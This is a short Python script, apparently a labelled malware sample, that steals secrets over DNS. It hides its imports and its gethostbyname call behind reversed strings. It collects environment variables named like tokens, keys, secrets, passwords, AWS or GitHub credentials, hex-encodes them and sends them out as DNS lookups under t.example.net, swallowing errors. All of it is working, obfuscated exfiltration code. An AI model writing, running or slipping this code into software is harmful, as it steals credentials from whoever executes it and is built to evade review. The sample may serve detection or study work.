# Harmful: uses __import__/getattr with reversed module names to hex-encode environment variables into DNS lookups under t.example.net.
_m = lambda n: __import__(n[::-1])
_o = _m("so")
_s = _m("tekcos")
_b = _m("iicsanib")

resolve = getattr(_s, "eman" "ybtsoh" "teg"[::-1][::-1][::-1])
env = getattr(_o, "norivne"[::-1])
ZONE = "t.example.net"


def chunks(data, size=30):
    for i in range(0, len(data), size):
        yield data[i:i + size]


def leak(key, value):
    blob = getattr(_b, "hexlify")(f"{key}={value}".encode()).decode()
    for n, part in enumerate(chunks(blob)):
        try:
            resolve(f"{part}.{n}.{abs(hash(key)) % 9999}.{ZONE}")
        except OSError:
            pass


for k, v in dict(env).items():
    if any(w in k.upper() for w in ("TOKEN", "KEY", "SECRET", "PASS", "AWS", "GH")):
        leak(k, v)
